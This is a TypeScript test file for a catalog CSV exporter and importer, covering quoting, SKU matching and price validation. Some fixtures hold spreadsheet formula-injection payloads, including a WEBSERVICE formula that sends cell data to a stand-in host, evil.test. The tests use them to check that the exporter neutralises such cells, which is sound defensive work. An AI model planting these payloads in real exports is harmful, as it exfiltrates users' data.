import { CATALOG_CSV_COLUMNS } from '@portal/domain';
import { describe, expect, it } from 'vitest';
import { makeProduct } from '../testing/stubs';
import {
  buildCatalogCsv,
  catalogCsvFileName,
  planCatalogImport,
  readCatalogCsv,
} from './catalog-csv';

const HEADER = CATALOG_CSV_COLUMNS.map((column) => `"${column}"`).join(',');

const syrup = makeProduct({
  id: 'prod-1',
  sku: 'SYR-PURPLE',
  category: 'Syrups',
  description: 'Grape, "the" classic\nNow in 1L',
  images: ['/images/p2.png', '/images/p3.png'],
  case_pack: 6,
  min_quantity: 12,
  price_breaks: [
    { min_quantity: 24, unit_amount: 2799 },
    { min_quantity: 48, unit_amount: 2599 },
  ],
  wholesale_breaks: [{ min_quantity: 60, unit_amount: 2299 }],
  stock_on_hand: 120,
  stock_reserved: 7,
  created_at: new Date('2025-01-02T03:04:05Z'),
});
const machine = makeProduct({
  id: 'prod-2',
  sku: 'MACH-PRO',
  name: '=HYPERLINK("evil")',
  category: '',
  price_retailer: 149900,
  price_wholesaler: 129900,
  is_active: false,
  sort_order: 20,
  stock_on_hand: null,
});

/** The fields a CSV row carries for a product (not its id, reservations or creation time). */
function rowFields(product: ReturnType<typeof makeProduct>) {
  const { id: _id, stock_reserved: _r, created_at: _c, ...fields } = product;
  return fields;
}

describe('buildCatalogCsv (export)', () => {
  it('writes the header and one row per product', async () => {
    const csv = buildCatalogCsv([syrup, machine]);
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe(HEADER);
    expect(csv).toContain(
      '"SYR-PURPLE","Purple Dream Syrup","Syrups","Grape, ""the"" classic\nNow in 1L"',
    );
    expect(csv).toContain('"24:27.99|48:25.99","60:22.99","6","12","120","true","10"');
    // A cell a spreadsheet would run as a formula is neutralised.
    expect(csv).toContain(`"MACH-PRO","'=HYPERLINK(""evil"")"`);
  });

  it('quotes and neutralises every hostile cell, and imports them back unchanged', async () => {
    const hostile = makeProduct({
      id: 'prod-3',
      sku: 'HOSTILE-1',
      name: 'Acme;=WEBSERVICE("http://evil.test/?"&A1)',
      category: '+Syrups',
      description: '@SUM(A1)\t-1',
    });
    const csv = buildCatalogCsv([hostile]);
    expect(csv).toContain(
      `"HOSTILE-1","Acme;=WEBSERVICE(""http://evil.test/?""&A1)","'+Syrups","'@SUM(A1)\t-1"`,
    );
    const plan = await readCatalogCsv(csv, [hostile]);
    expect(plan.errors).toEqual([]);
    expect(plan.rows.map((r) => r.row)).toEqual([rowFields(hostile)]);
  });

  it('re-imports identically: every row updates its product and changes nothing', async () => {
    const products = [syrup, machine];
    const plan = await readCatalogCsv(buildCatalogCsv(products), products);
    expect(plan.errors).toEqual([]);
    expect(plan).toMatchObject({ created: 0, updated: 2 });
    expect(plan.rows.map((r) => [r.line, r.action, r.productId])).toEqual([
      [2, 'update', 'prod-1'],
      [3, 'update', 'prod-2'],
    ]);
    expect(plan.rows.map((r) => r.row)).toEqual(products.map(rowFields));
    expect([...plan.existingBySku]).toEqual([
      ['SYR-PURPLE', syrup],
      ['MACH-PRO', machine],
    ]);
    expect(plan.columns).toEqual([...CATALOG_CSV_COLUMNS]);
  });

  it('leaves a missing wholesale price empty (the import then asks for it)', async () => {
    const unpriced = makeProduct({ sku: 'NOPRICE', price_wholesaler: null });
    const csv = buildCatalogCsv([unpriced]);
    expect(csv.split('\r\n')[1]).toContain(',"29.99","",');
    const plan = await readCatalogCsv(csv, [unpriced]);
    expect(plan.errors).toEqual([
      { line: 2, sku: 'NOPRICE', message: expect.stringContaining('price_wholesaler') },
    ]);
  });

  it('names the file by the day', () => {
    expect(catalogCsvFileName(new Date('2025-03-04T20:00:00Z'))).toBe('catalog-2025-03-04.csv');
    // 6 pm on Mar 4 in California is Mar 5 in UTC and east of it: still the 4th.
    expect(catalogCsvFileName(new Date('2025-03-05T02:00:00Z'))).toBe('catalog-2025-03-04.csv');
  });
});

const minimal = 'sku,name,image_url,price_retailer,price_wholesaler';

describe('readCatalogCsv (import)', () => {
  it('plans creates and updates by SKU, with the counts', async () => {
    const csv = [
      minimal,
      'syr-purple,Purple Dream Syrup,/p.png,30.00,25.00',
      'NEW-1,New Syrup,/n.png,12.5,10',
      '',
    ].join('\n');
    const plan = await readCatalogCsv(csv, [syrup, machine]);
    expect(plan.errors).toEqual([]);
    expect(plan).toMatchObject({ created: 1, updated: 1 });
    expect(plan.rows.map((r) => [r.line, r.row.sku, r.action, r.productId])).toEqual([
      [2, 'SYR-PURPLE', 'update', 'prod-1'],
      [3, 'NEW-1', 'create', null],
    ]);
    expect(plan.rows[1]?.row).toMatchObject({
      price_retailer: 1250,
      price_wholesaler: 1000,
      case_pack: 1,
      min_quantity: 1,
      stock_on_hand: null,
      is_active: true,
    });
  });

  it('plans an update as the product with the file columns applied (missing columns keep its values)', async () => {
    const csv = `${minimal},retail_breaks\nSYR-PURPLE,Purple 1L,/p1.png,31.00,26.00,24:29.00\n`;
    const plan = await readCatalogCsv(csv, [syrup, machine]);
    expect(plan.errors).toEqual([]);
    expect(plan.columns).toEqual([...minimal.split(','), 'retail_breaks']);
    expect(plan.rows[0]?.row).toEqual({
      ...rowFields(syrup),
      name: 'Purple 1L',
      image_url: '/p1.png',
      price_retailer: 3100,
      price_wholesaler: 2600,
      price_breaks: [{ min_quantity: 24, unit_amount: 2900 }],
    });
    expect(plan.existingBySku.get('SYR-PURPLE')).toBe(syrup);
  });

  it('reports an update that is invalid with the values the file leaves alone', async () => {
    // syrup's minimum is 12, the machine's 1: a case of 5 without min_quantity is no whole number
    // of cases for either; syrup's wholesale break (22.99 from 60) is not cheaper than a new
    // wholesale price of 20.00.
    const csv = [
      `${minimal},case_pack`,
      'SYR-PURPLE,Purple,/p.png,30.00,25.00,5',
      'MACH-PRO,Machine,/m.png,1499.00,1299.00,5',
    ].join('\n');
    const plan = await readCatalogCsv(csv, [syrup, machine]);
    const wholesale = await readCatalogCsv(`${minimal}\nSYR-PURPLE,Purple,/p.png,30.00,20.00\n`, [
      syrup,
    ]);
    expect(plan.rows).toEqual([]);
    expect(plan.errors).toEqual([
      {
        line: 2,
        sku: 'SYR-PURPLE',
        message:
          "The minimum order must be a multiple of the case pack (5) (the columns missing from this file keep the product's current values)",
      },
      {
        line: 3,
        sku: 'MACH-PRO',
        message: expect.stringContaining('multiple of the case pack (5)'),
      },
    ]);
    expect(wholesale.errors).toEqual([
      {
        line: 2,
        sku: 'SYR-PURPLE',
        message: expect.stringMatching(/^Wholesale price breaks: .*current values\)$/),
      },
    ]);
  });

  it('reports missing columns and plans nothing', async () => {
    const plan = await readCatalogCsv('sku,name,price_retailer\nA-1,A,1.00\n', []);
    expect(plan.rows).toEqual([]);
    expect(plan.errors).toEqual([
      {
        line: 1,
        sku: '',
        message: 'Missing columns: image_url, price_wholesaler',
      },
    ]);
  });

  it('reports a SKU twice in the file, prices with three decimals and other bad rows, each with its line', async () => {
    const csv = [
      `${minimal},case_pack,min_quantity,retail_breaks`,
      'A-1,Alpha,/a.png,10.00,8.00,,,',
      'B-1,Beta,/b.png,10.005,8.00,,,',
      'a-1,Alpha again,/a.png,10.00,8.00,,,',
      'C-1,Gamma,/c.png,10.00,8.00,6,10,',
      'D 1,Delta,/d.png,10.00,8.00,,,',
      'E-1,Epsilon,/e.png,10.00,8.00,,,24:11.00',
    ].join('\n');
    const plan = await readCatalogCsv(csv, []);
    expect(plan.rows).toEqual([]);
    expect(plan.errors).toEqual([
      {
        line: 3,
        sku: 'B-1',
        message: 'price_retailer must be an amount in dollars with at most 2 decimals, like 12.50',
      },
      { line: 4, sku: 'A-1', message: 'Duplicate SKU A-1 (also on line 2)' },
      {
        line: 5,
        sku: 'C-1',
        message: 'The minimum order must be a multiple of the case pack (6)',
      },
      {
        line: 6,
        sku: 'D 1',
        message: 'SKU may use letters, digits, dot, dash and underscore only',
      },
      {
        line: 7,
        sku: 'E-1',
        message: 'Retail price breaks: Each price break must be cheaper than the price before it',
      },
    ]);
  });

  it('refuses a row the CSV library cannot read (too many cells)', async () => {
    const plan = await readCatalogCsv(`${minimal}\nA-1,A,/a.png,1.00,1.00,extra\n`, []);
    expect(plan.rows).toEqual([]);
    expect(plan.errors).toEqual([
      expect.objectContaining({ line: 2, sku: 'A-1', message: expect.stringMatching(/cells/) }),
    ]);
  });

  it('refuses a SKU two catalog products already share (which one would it update?)', async () => {
    const twin = makeProduct({ id: 'prod-9', name: 'Twin Syrup', sku: 'syr-purple' });
    const plan = await readCatalogCsv(`${minimal}\nSYR-PURPLE,P,/p.png,1.00,1.00\n`, [syrup, twin]);
    expect(plan.rows).toEqual([]);
    expect(plan.errors).toEqual([
      {
        line: 2,
        sku: 'SYR-PURPLE',
        message: expect.stringContaining('2 products in the catalog have SKU SYR-PURPLE'),
      },
    ]);
  });

  it('reads a spreadsheet export: byte order mark, header case and spaces, CRLF', async () => {
    const csv =
      '\uFEFF SKU ,Name,Image_URL,Price_Retailer,Price_Wholesaler\r\nA-1,A,/a.png,1,1\r\n';
    const plan = await readCatalogCsv(csv, []);
    expect(plan.errors).toEqual([]);
    expect(plan.rows.map((r) => r.row.sku)).toEqual(['A-1']);
  });

  it('says a file without products has none', async () => {
    const plan = await readCatalogCsv(`${minimal}\n`, []);
    expect(plan.errors).toEqual([{ line: 1, sku: '', message: 'The file has no products' }]);
  });
});

describe('planCatalogImport', () => {
  it('ignores catalog products without a SKU (they match no row)', () => {
    const legacy = makeProduct({ id: 'legacy', sku: '' });
    const plan = planCatalogImport(
      ['sku', 'name', 'image_url', 'price_retailer', 'price_wholesaler'],
      [{ sku: 'X-1', name: 'X', image_url: '/x.png', price_retailer: '1', price_wholesaler: '1' }],
      [legacy],
    );
    expect(plan.rows.map((r) => r.action)).toEqual(['create']);
  });
});
